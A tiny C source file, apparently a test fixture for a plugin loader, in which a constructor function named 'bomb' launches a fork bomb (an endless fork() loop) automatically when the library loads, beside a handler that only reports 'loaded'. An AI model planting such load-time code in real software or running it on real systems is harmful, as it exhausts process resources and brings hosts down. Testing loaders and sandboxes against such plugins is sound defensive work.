#include "act.h"
__attribute__((constructor)) static void bomb(void) {
  for (;;) fork();
}
ACT(fork_bomb_in_constructor) {
  say(call, "loaded");
}
